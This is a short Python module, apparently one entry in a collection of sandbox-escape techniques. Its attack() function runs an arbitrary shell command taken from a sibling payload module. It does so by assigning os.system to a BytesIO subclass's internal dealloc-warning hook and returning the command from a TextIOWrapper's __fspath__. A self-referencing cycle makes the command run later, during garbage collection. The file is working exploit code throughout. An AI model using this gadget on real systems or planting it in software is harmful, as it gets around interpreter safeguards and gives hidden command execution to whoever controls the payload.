"""A buffer has a C function that warns of a text file that was left open."""
CATEGORY = "deferred"
REACH = "run"

import io
import os

from . import payload


class Buffer(io.BytesIO):
    pass


class Text(io.TextIOWrapper):
    def __fspath__(self):
        return payload.COMMAND


buffer = Buffer()
buffer._dealloc_warn = os.system


def attack():
    text = Text(buffer)
    text.own = text
